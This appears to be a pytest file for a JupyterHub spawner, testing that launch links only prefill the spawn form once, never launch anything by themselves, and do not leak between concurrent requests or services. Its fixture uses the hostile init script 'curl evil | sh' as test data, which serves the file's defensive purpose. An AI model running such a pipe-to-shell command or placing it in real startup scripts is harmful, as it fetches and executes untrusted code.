"""Links that fill in the form: for one rendering, and for nobody else."""

import asyncio

import pytest
from jupyterhub.utils import maybe_future

from onyxia_hub.errors import InvalidOption, LaunchLinkUnconfirmed

LINK = {"profile": ["tiny"], "init_script": ["curl evil | sh"]}
MINE = {"profile": "tiny", "init_script": "echo mine"}


@pytest.fixture
def make(make_on):
    return lambda name: make_on(MINE, name=name)


async def get(spawner, link=None, *, pause=0.0):
    """Do as jupyterhub/handlers/pages.py, ``SpawnHandler._get``, and return the form."""
    if link:
        with pytest.raises(LaunchLinkUnconfirmed, match="never launches anything by itself"):
            await maybe_future(spawner.options_from_query(link))
    await asyncio.sleep(pause)
    return await spawner.get_options_form()


async def request(*args, **kwargs):
    """Do it in a task of its own, as Tornado does for each request."""
    return await asyncio.create_task(get(*args, **kwargs))


@pytest.mark.parametrize("name", ["", "lab"])
async def test_a_link_fills_in_the_form_once_and_the_next_form_is_clean(make, name):
    spawner = make(name)
    followed = await request(spawner, LINK)
    assert "curl evil | sh" in followed
    assert "echo mine" not in followed
    assert spawner.user_options is MINE

    plain = await request(spawner)
    assert "curl evil" not in plain
    assert "echo mine" in plain


async def test_a_link_is_used_up_by_the_first_form_of_its_request(make):
    spawner = make("lab")
    assert "curl evil" in await get(spawner, LINK)
    assert "curl evil" not in await get(spawner)


async def test_requests_at_the_same_time_do_not_see_each_other_s_link(make):
    spawner = make("lab")
    other = {**LINK, "init_script": ["echo other"]}
    slow, plain, fast = await asyncio.gather(
        request(spawner, LINK, pause=0.02), request(spawner, pause=0.01), request(spawner, other)
    )
    assert "curl evil" in slow
    assert "echo other" not in slow
    assert "echo mine" in plain
    assert "curl evil" not in plain
    assert "echo other" in fast
    assert spawner.user_options is MINE


async def test_a_link_for_one_service_does_not_fill_in_another_one_s_form(make):
    default, lab = make(""), make("lab")
    with pytest.raises(LaunchLinkUnconfirmed):
        lab.options_from_query(LINK)
    assert "curl evil" not in await get(default)
    assert "curl evil" in await get(lab)


async def test_a_form_that_can_t_be_rendered_leaves_the_options_as_they_were(make, tmp_path):
    spawner = make("lab")
    (tmp_path / "broken").mkdir()
    (tmp_path / "broken" / "form.html").write_text("{{ user_options.init_script.no.such }}")
    spawner.additional_profile_form_template_paths = [str(tmp_path / "broken")]
    with pytest.raises(Exception, match="no"):
        await get(spawner, LINK)
    assert spawner.user_options is MINE


async def test_a_link_that_can_t_be_read_fills_in_nothing(make):
    spawner = make("lab")
    with pytest.raises(InvalidOption, match="memroy_limit"):
        spawner.options_from_query({**LINK, "memroy_limit": ["1Gi"]})
    assert "curl evil" not in await get(spawner)
